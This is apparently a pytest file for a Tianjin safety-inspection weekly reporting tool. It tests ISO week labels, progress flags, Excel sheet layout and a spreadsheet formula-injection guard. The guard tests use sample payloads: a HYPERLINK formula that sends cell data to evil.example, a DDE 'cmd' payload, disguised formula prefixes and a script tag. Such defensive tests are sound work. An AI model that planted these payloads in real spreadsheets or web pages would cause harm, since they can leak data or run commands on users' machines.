"""The weekly reports' pure parts: ISO week labels and archive paths, the formula-injection
guard, progress flags and the workbook's structure (headers, frozen panes, filters, widths)."""

from __future__ import annotations

import datetime as dt
import decimal
import io

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from safety_hub.config.files import write_atomic
from safety_hub.reporting import archive
from safety_hub.reporting.archive import ReportWeek
from safety_hub.reporting.cells import FORMULA_TRIGGERS, clean_text, neutralise
from safety_hub.reporting.figures import WeeklyFigures
from safety_hub.reporting.progress import hazard_progress, measure_progress
from safety_hub.reporting.workbook import (HAZARD_COLUMNS, HEADER_ROW, MEASURE_COLUMNS, RISK_COLUMNS, SHEET_HAZARDS, SHEET_MEASURES,
                                           SHEET_REPORTING, SHEET_RISK, SHEET_SITUATION, display_width, workbook_bytes,
                                           REPORTING_COLUMNS)

# --- weeks and the archive -------------------------------------------------------------------


@pytest.mark.parametrize("label, monday, sunday", [
    ("2026-W45", dt.date(2026, 11, 2), dt.date(2026, 11, 8)),
    ("2026-W01", dt.date(2025, 12, 29), dt.date(2026, 1, 4)),  # ISO week 1 starts in the old year
    ("2026-W53", dt.date(2026, 12, 28), dt.date(2027, 1, 3)),  # 2026 has 53 ISO weeks
    ("2027-W01", dt.date(2027, 1, 4), dt.date(2027, 1, 10)),
])
def test_week_label_gives_monday_to_sunday(label, monday, sunday):
    week = ReportWeek.parse(label)
    assert (week.start, week.end, week.label, str(week)) == (monday, sunday, label, label)
    assert ReportWeek.containing(monday) == ReportWeek.containing(sunday) == week


@pytest.mark.parametrize("label", ["2026-45", "2026W45", "2026-W5", "2026-W54", "2025-W53", "2026-W00", " ", "W45-2026"])
def test_bad_week_labels_are_rejected(label):
    with pytest.raises(ValueError, match="week|ISO"):
        ReportWeek.parse(label)


@given(st.dates(min_value=dt.date(2000, 1, 1), max_value=dt.date(2100, 12, 31)))
def test_every_day_belongs_to_the_week_its_label_names(day):
    week = ReportWeek.containing(day)
    assert week.start <= day <= week.end and (week.end - week.start).days == 6
    assert week.start.isoweekday() == 1 and ReportWeek.parse(week.label) == week
    assert week.shift(1).start == week.end + dt.timedelta(days=1) and week.shift(-1).end == week.start - dt.timedelta(days=1)


@pytest.mark.parametrize("today, expected", [
    (dt.date(2026, 11, 9), "2026-W45"),   # the Monday after: the week just ended
    (dt.date(2026, 11, 15), "2026-W45"),  # its Sunday: that week has not ended
    (dt.date(2026, 11, 16), "2026-W46"),
    (dt.date(2027, 1, 4), "2026-W53"),
])
def test_previous_week_is_the_last_complete_one(today, expected):
    assert ReportWeek.previous(today).label == expected


def test_reports_are_archived_per_week(tmp_path, monkeypatch):
    monkeypatch.setenv("SAFETY_HUB_HOME", str(tmp_path))
    week = ReportWeek.parse("2026-W45")
    assert archive.week_dir(week) == tmp_path / "reports" / "2026-W45"
    assert archive.workbook_path(week).parent == archive.html_path(week).parent == archive.week_dir(week)
    assert archive.workbook_path(week).name.endswith("_2026-W45.xlsx") and archive.html_path(week).suffix == ".html"
    written = write_atomic(archive.html_path(week), "周报")
    assert written.read_text(encoding="utf-8") == "周报"
    assert [p.name for p in archive.week_dir(week).iterdir()] == [written.name], "no temporary file left behind"


# --- formula injection -----------------------------------------------------------------------

HOSTILE = [
    "=1+1", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "-2+3",
    "@SUM(1,2)", "\t=1+1", "\r=1+1", "=天津", "-", "=",
    "＝1+1", "＋SUM(A1)", "－2", "＠SUM(1)", " =1", "\u3000=1", "\u200b=HYPERLINK(\"x\")", "\ufeff+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_neutralised(text):
    out = neutralise(text)
    assert out == "'" + text
    assert not out.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("text", ["天津港保税区", "安全阀未定期校验", "a=b", "1+1", "(津保)应急罚[2023]k-39号", "", " 1=1", "A－1"])
def test_plain_text_is_unchanged(text):
    assert neutralise(text) == text


@pytest.mark.parametrize("value", [0, -5, 3.25, -0.5, True, dt.date(2026, 11, 8), dt.datetime(2026, 11, 8, 9, 30)])
def test_numbers_dates_and_booleans_stay_values(value):
    assert neutralise(value) == value and type(neutralise(value)) is type(value)


def test_decimals_numpy_and_missing_values():
    import numpy as np

    assert neutralise(decimal.Decimal("-1.50")) == -1.5 and isinstance(neutralise(decimal.Decimal("2")), float)
    assert neutralise(np.int64(-7)) == -7 and isinstance(neutralise(np.int64(-7)), int)
    assert neutralise(None) is None and neutralise(float("nan")) is None


@given(st.text())
def test_no_text_survives_as_a_formula(text):
    out = neutralise(text)
    assert isinstance(out, str) and not out.startswith(FORMULA_TRIGGERS)
    assert out in (clean_text(text), "'" + clean_text(text))


# Every class of code point a warehouse string can hold: C0 and C1 controls, DEL, spaces, zero-width,
# bidi controls, private use, noncharacters, CJK, astral (emoji, CJK extension B), combining marks.
EVERY_CLASS = "".join(map(chr, range(0x00, 0x20))) + "\x7f" + "".join(map(chr, range(0x80, 0xa0))) + \
    "\u00a0\u2028\u2029\u200b\u200e\u202e\u2066\ufeff\ue000\ufdd0\ufffe\uffff\u0301天津\U0001f525\U00020000"


@pytest.mark.parametrize("start", range(0, len(EVERY_CLASS), 8))
def test_a_workbook_holds_any_warehouse_string(start):
    text = EVERY_CLASS[start:] + EVERY_CLASS[:start]
    hazard = {**HAZARD, "org_name": text, "description": "=" + text, "measures": text * 3000, "owner": text[::-1]}
    book = load_workbook(io.BytesIO(workbook_bytes(_figures([hazard], [{**MEASURE, "title": text}]))))
    assert book[SHEET_HAZARDS].max_row > HEADER_ROW


def test_the_html_report_holds_any_warehouse_string():
    from safety_hub.reporting.weekly import render_weekly_report

    fig = _figures([{**HAZARD, "org_name": EVERY_CLASS + "<script>alert(1)</script>", "description": EVERY_CLASS}],
                   [{**MEASURE, "title": EVERY_CLASS}])
    page = render_weekly_report(fig)
    assert "<script>alert(1)</script>" not in page
    page.encode("utf-8")  # no lone surrogate or other unencodable text


# --- progress flags --------------------------------------------------------------------------

SUNDAY = dt.date(2026, 11, 8)


@pytest.mark.parametrize("closed, deadline, flag", [
    (True, dt.date(2026, 10, 1), "绿"),   # closed, even if late
    (False, dt.date(2026, 11, 7), "红"),  # open past its deadline
    (False, SUNDAY, "黄"),                # due today: 0 days left
    (False, SUNDAY + dt.timedelta(days=6), "黄"),
    (False, SUNDAY + dt.timedelta(days=7), "绿"),
    (False, None, "黄"),                  # no deadline to judge by
    (False, pd.NaT, "黄"),                # nor when a frame's empty date column gives NaT
])
def test_progress_flags(closed, deadline, flag):
    assert hazard_progress(closed, deadline, SUNDAY, 7) == flag
    assert measure_progress(closed, deadline, SUNDAY, 7) == flag


# --- the workbook ----------------------------------------------------------------------------

def _figures(hazards: list[dict], measures: list[dict], risk: list[dict] = (), data_date=dt.date(2026, 11, 8),
             reporting: list[dict] = ()) -> WeeklyFigures:
    h = {k: 0 for k in ("found_week", "found_total", "closed_week", "closed_total", "major_week", "major_total", "major_closed_total",
                        "listed_week", "listed_total", "listed_open", "overdue", "major_overdue", "due", "closed_on_time")}
    h.update(found_week=12, found_total=40, closed_week=5, closed_total=30, due=10, closed_on_time=8)
    e = {k: 0 for k in ("inspected_week", "inspected_total", "penalties_week", "penalties_total", "suspensions_week", "suspensions_total",
                        "revocations_week", "revocations_total", "closures_week", "closures_total", "joint_punishments_week",
                        "joint_punishments_total", "warning_talks_week", "warning_talks_total")}
    e.update(fine_wan_week=12.5, fine_wan_total=101.25, penalties_week=3)
    return WeeklyFigures(week=ReportWeek.parse("2026-W45"), data_date=data_date, sources=["隐患台账（emb_hazard）"],
                         hazards=h, enforcement=e, hazard_list=pd.DataFrame(hazards), measure_list=pd.DataFrame(measures),
                         risk_list=pd.DataFrame(list(risk)), reporting=pd.DataFrame(list(reporting)))


HAZARD = {"identity_key": "k1", "district_code": "120101", "district_name": "和平区", "uscc": "91120101MA05XXXXXX",
          "org_name": "=HYPERLINK(\"http://evil.example\",\"点我\")", "description": "+安全阀未定期校验", "grade": "重大隐患",
          "is_major": True, "listed_supervision": True, "measures": "@SUM(1,2) 停产整改", "owner": "-张伟",
          "found_date": dt.date(2026, 10, 20), "deadline": dt.date(2026, 11, 5), "days_left": -3, "status": "整改中",
          "closed_date": None, "closed_by_asof": False, "progress": "红", "sources": "emb_hazard:YH1,hcc_hazard:SG1"}
MEASURE = {"measure_id": "ZDCS-2026-001", "title": "=1+1 天津市安全生产条例修订", "measure_type": "法规", "org_name": "天津市应急管理局",
           "uscc": "11120000632910483Q", "district_code": "120103", "district_name": "河西区", "registered_date": dt.date(2026, 3, 1),
           "planned_date": dt.date(2026, 9, 9), "completed_date": dt.date(2026, 8, 10), "doc_no": "\t=cmd", "completed_by_asof": True,
           "status": "已完成", "progress": "绿"}


RISK = {"grade": "红", "org_name": "天津渤化测试有限公司", "uscc": "91120116MA05XXXXXX", "district_name": "滨海新区", "sector": "危化",
        "score": 72.5, "reasons": "行业领域（危化） +20；重大隐患未整改 2 项 +20；逾期重大隐患 1 项 +10"}


REPORTING = [
    {"scope": "按数据源", "feed_id": "emb_hazard", "agency_name": "天津市应急管理局", "unit_code": None, "unit_name": None,
     "expected": 80, "reported": 76, "on_time": 70, "late": 6, "missed": 4, "repeated": 9, "report_rate": 0.95, "timely_rate": 0.875},
    {"scope": "明细", "feed_id": "emb_hazard", "agency_name": "天津市应急管理局", "unit_code": "120101", "unit_name": "和平区",
     "expected": 5, "reported": 4, "on_time": 3, "late": 1, "missed": 1, "repeated": 0, "report_rate": 0.8, "timely_rate": 0.6},
]


@pytest.fixture(scope="module")
def book():
    hazards = [HAZARD, {**HAZARD, "identity_key": "k2", "progress": "绿"}]
    return load_workbook(io.BytesIO(workbook_bytes(_figures(hazards, [MEASURE], [RISK, {**RISK, "grade": "橙", "score": 45}],
                                                            reporting=REPORTING))))


def test_the_reporting_sheet_lists_the_rates_per_scope(book):
    ws = book[SHEET_REPORTING]
    rows = [dict(zip([c.header for c in REPORTING_COLUMNS], r)) for r in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]
    assert [(r["统计口径"], r["报送单位（区）"], r["应报"], r["漏报"], r["报送率"], r["及时率"]) for r in rows] == [
        ("按数据源", "全部", 80, 4, 0.95, 0.875), ("明细", "和平区", 5, 1, 0.8, 0.6)]
    assert ws.cell(row=HEADER_ROW + 1, column=12).number_format == "0.0%"
    assert "报送率 = 已报 ÷ 应报" in ws["A2"].value


def test_five_sheets_with_chinese_headers_frozen_and_filtered(book):
    assert book.sheetnames == [SHEET_SITUATION, SHEET_HAZARDS, SHEET_MEASURES, SHEET_RISK, SHEET_REPORTING]
    for name, columns in ((SHEET_HAZARDS, HAZARD_COLUMNS), (SHEET_MEASURES, MEASURE_COLUMNS), (SHEET_RISK, RISK_COLUMNS),
                          (SHEET_REPORTING, REPORTING_COLUMNS), (SHEET_SITUATION, None)):
        ws = book[name]
        headers = [c.value for c in ws[HEADER_ROW]]
        if columns:
            assert headers == [c.header for c in columns]
        assert all(any("\u4e00" <= ch <= "\u9fff" for ch in h) for h in headers), headers
        assert ws.freeze_panes == f"A{HEADER_ROW + 1}", "the header row stays in view"
        assert ws.auto_filter.ref.startswith(f"A{HEADER_ROW}:") and ws.auto_filter.ref.endswith(str(ws.max_row))
        assert "2026-W45" in ws["A1"].value and "终版" in ws["A1"].value and "统计截止日：2026-11-08" in ws["A2"].value
        assert "数据截至 2026-11-08（北京时间），终版" in ws["A2"].value


def test_every_sheet_prints_landscape_one_page_wide_with_its_header_on_every_page(book):
    """Read back by openpyxl: A4 landscape, fit to 1 page wide and any number tall, row 3 (the
    headers) repeated, the print area exactly the table (no blank page beyond it)."""
    for ws in book.worksheets:
        setup = ws.page_setup
        assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0), ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage is True, ws.title
        assert ws.print_title_rows == f"${HEADER_ROW}:${HEADER_ROW}", ws.title
        last_col = ws.cell(row=HEADER_ROW, column=ws.max_column).column_letter
        assert ws.print_area == f"'{ws.title}'!$A$1:${last_col}${ws.max_row}", ws.title
        assert ws[f"{last_col}{HEADER_ROW}"].value and ws.cell(row=HEADER_ROW, column=ws.max_column + 1).value is None


def test_the_risk_sheet_lists_red_and_orange_enterprises_with_their_reasons(book):
    ws = book[SHEET_RISK]
    rows = [dict(zip([c.header for c in RISK_COLUMNS], r)) for r in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True)]
    assert [(r["序号"], r["风险等级"], r["风险分"]) for r in rows] == [(1, "红", 72.5), (2, "橙", 45)]
    assert rows[0]["评分构成"] == RISK["reasons"] and rows[0]["单位名称"] == RISK["org_name"]
    grade = ws.cell(row=HEADER_ROW + 1, column=2)
    assert grade.fill.fgColor.rgb == "FFC0392B" and ws.cell(row=HEADER_ROW + 2, column=2).fill.fgColor.rgb == "FFE67E22"


def test_an_unfinished_week_is_labelled_as_of_its_data_date():
    from safety_hub.reporting.weekly import render_weekly_report

    fig = _figures([HAZARD], [MEASURE], [RISK], data_date=dt.date(2026, 11, 4))
    assert (fig.as_of, fig.complete, fig.status) == (dt.date(2026, 11, 4), False, "非终版")
    assert fig.label == "数据截至 2026-11-04（北京时间），非终版"
    headline = fig.headline()
    assert (headline["as_of"], headline["week_end"], headline["final"], headline["label"]) == (
        "2026-11-04", "2026-11-08", False, "数据截至 2026-11-04（北京时间），非终版")
    ws = load_workbook(io.BytesIO(workbook_bytes(fig)))[SHEET_SITUATION]
    assert "非终版" in ws["A1"].value and "统计截止日：2026-11-04" in ws["A2"].value and fig.label in ws["A2"].value
    page = render_weekly_report(fig)
    assert fig.label in page and "统计截止日：2026-11-04" in page and "非终版" in page and "2026-11-08（周日）" in page
    assert RISK["reasons"] in page
    final = _figures([HAZARD], [MEASURE], data_date=dt.date(2026, 11, 8))
    assert (final.as_of, final.complete, final.label) == (dt.date(2026, 11, 8), True, "数据截至 2026-11-08（北京时间），终版")


def test_risk_reasons_name_every_component_that_scored():
    from safety_hub.reporting.marts import risk_reasons
    from safety_hub.config.risk import load_risk_config

    config = load_risk_config()
    row = {"sector": "危化", "major_hazard_level": "二级", "employees": 350, "inherent_industry": 20, "inherent_major_source": 20,
           "inherent_headcount": 8, "n_open_major": 2, "open_major": 10, "n_overdue_major": 1, "overdue_major": 10,
           "n_open_hazards": 3, "open_hazards": 3, "n_overdue_hazards": 0, "overdue_hazards": 0, "n_accidents": 0, "accidents": 0,
           "n_enforcement": 1, "enforcement": 2.5, "insurance_lapsed": 0, "insurance_unseen": 0, "insurance_mandatory": True,
           "insurance_status": "未见保单"}
    assert risk_reasons(row, config) == (
        "行业领域（危化） +20；重大危险源（二级） +20；从业人员 350 人 +8；重大隐患未整改 2 项 +10；逾期重大隐患 1 项 +10；"
        f"一般隐患未整改 3 项 +3；近{config.enforcement.lookback_days}天执法处罚 1 次 +2.5；未见安责险保单（未计分）")
    lapsed = {**row, "insurance_status": "脱保", "insurance_lapsed": 10, "enforcement": 0, "n_enforcement": 0}
    assert risk_reasons(lapsed, config).endswith("一般隐患未整改 3 项 +3；安责险脱保 +10")


def test_situation_sheet_holds_the_figures_as_numbers(book):
    ws = book[SHEET_SITUATION]
    rows = {r[2]: r for r in ws.iter_rows(min_row=HEADER_ROW + 1, values_only=True)}
    assert rows["排查隐患"][4:6] == (12, 40) and rows["整改销号"][4:6] == (5, 30)
    assert rows["动态整改率"][5] == pytest.approx(0.75) and rows["按期整改率"][5] == pytest.approx(0.8)
    assert rows["罚款金额"][3] == "万元" and rows["罚款金额"][4:6] == (12.5, 101.25)
    assert rows["行政处罚"][4] == 3
    for name in ("责令停产整顿", "吊销证照", "关闭取缔", "联合惩戒", "约谈", "执法检查企业", "重大隐患", "挂牌督办隐患"):
        assert name in rows, name
    rate = next(c for c in ws[HEADER_ROW + 3] if c.column == 6)
    assert rate.number_format == "0.0%"


def test_every_hostile_text_cell_is_neutralised(book):
    ws = book[SHEET_HAZARDS]
    row = [c.value for c in ws[HEADER_ROW + 1]]
    cells = dict(zip([c.header for c in HAZARD_COLUMNS], row))
    assert cells["单位名称"] == "'" + HAZARD["org_name"]
    assert cells["问题（隐患描述）"] == "'+安全阀未定期校验" and cells["整改措施"] == "'@SUM(1,2) 停产整改" and cells["责任人"] == "'-张伟"
    assert cells["剩余天数"] == -3, "a negative number stays a number"
    assert cells["整改时限"] == dt.datetime(2026, 11, 5) and cells["进展"] == "红"
    measures = dict(zip([c.header for c in MEASURE_COLUMNS], [c.value for c in book[SHEET_MEASURES][HEADER_ROW + 1]]))
    assert measures["名称"] == "'=1+1 天津市安全生产条例修订" and measures["文号"] == "'\t=cmd"
    for sheet in book.worksheets:
        for r in sheet.iter_rows():
            for c in r:
                assert c.data_type != "f", f"{sheet.title}!{c.coordinate} is a formula"
                if isinstance(c.value, str):
                    assert not c.value.startswith(FORMULA_TRIGGERS), f"{sheet.title}!{c.coordinate}"


def test_columns_are_wide_enough_and_flags_coloured(book):
    ws = book[SHEET_HAZARDS]
    widths = {c.header: ws.column_dimensions[chr(ord("A") + i)].width for i, c in enumerate(HAZARD_COLUMNS)}
    assert widths["统一社会信用代码"] >= 18 + 2, "an 18-character code fits"
    assert widths["所在区"] >= display_width("所在区") and widths["发现日期"] >= 10
    assert all(6 <= w <= 60 for w in widths.values())
    flag = ws.cell(row=HEADER_ROW + 1, column=[c.header for c in HAZARD_COLUMNS].index("进展") + 1)
    assert flag.fill.fgColor.rgb == "FFC0392B"
    green = ws.cell(row=HEADER_ROW + 2, column=flag.column)
    assert green.value == "绿" and green.fill.fgColor.rgb == "FF27AE60"


def test_display_width_counts_cjk_double():
    assert display_width("ab") == 2 and display_width("天津") == 4 and display_width("ＡＢ") == 4
    assert display_width(dt.date(2026, 1, 1)) == 10 and display_width(None) == 0


def test_an_empty_week_still_gives_a_valid_workbook():
    book = load_workbook(io.BytesIO(workbook_bytes(_figures([], []))))
    assert book[SHEET_HAZARDS].max_row == HEADER_ROW and book[SHEET_HAZARDS].auto_filter.ref == f"A{HEADER_ROW}:P{HEADER_ROW + 1}"


def test_report_command_rejects_a_bad_week(capsys):
    from safety_hub.cli import main

    assert main(["report", "--week", "2026-45"]) == 2
    assert "expected yyyy-Www" in capsys.readouterr().err


def test_report_for_a_week_without_data_is_one_line_exit_1_and_no_mart_rows(tmp_path, monkeypatch, capsys):
    """On a warehouse without any load for the week: one line on stderr, exit 1, no mart rows
    (16 stale empty rows an older build left for the week are deleted), no files."""
    import sqlalchemy as sa

    from safety_hub.cli import main
    from safety_hub.warehouse.engine import ensure_schema, get_engine

    monkeypatch.setenv("SAFETY_HUB_HOME", str(tmp_path))
    monkeypatch.setenv("SAFETY_HUB_WAREHOUSE_URL", f"duckdb:///{tmp_path / 'w.duckdb'}")
    engine = get_engine()
    ensure_schema(engine)
    with engine.begin() as conn:
        conn.execute(sa.text("""INSERT INTO mart_district_week SELECT '2026-W45', DATE '2026-11-02', DATE '2026-11-08', district_code,
                                district_name, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, NULL, NULL, 0, 0, 0, 0, 0, 0, 0, 0, 0, NULL
                                FROM dim_district"""))
    engine.dispose()
    assert main(["report", "--week", "2026-W45"]) == 1
    out, err = capsys.readouterr()
    assert out == "" and len(err.strip().splitlines()) == 1 and "2026-W45" in err and "no load" in err and "Traceback" not in err
    engine = get_engine()
    with engine.connect() as conn:
        assert conn.execute(sa.text("SELECT COUNT(*) FROM mart_district_week")).scalar() == 0
        assert conn.execute(sa.text("SELECT COUNT(*) FROM mart_enterprise_risk")).scalar() == 0
    engine.dispose()
    assert not (tmp_path / "reports" / "2026-W45").exists()


def test_the_weekly_page_has_the_reporting_section():
    from safety_hub.reporting.weekly import render_weekly_report

    page = render_weekly_report(_figures([HAZARD], [MEASURE], [RISK], reporting=REPORTING + [
        {**REPORTING[0], "scope": "按部门", "feed_id": None}, {**REPORTING[1], "scope": "按区", "feed_id": None, "agency_name": None}]))
    section = page[page.index('<div id="reporting">'):]
    assert "按数据源" in section and "emb_hazard" in section and "天津市应急管理局" in section and "和平区" in section
    assert "95.0%" in section and "87.5%" in section and "报送率 = 已报 ÷ 应报" in page
    empty = render_weekly_report(_figures([HAZARD], [MEASURE], [RISK]))
    assert "本周无到期的报送" in empty
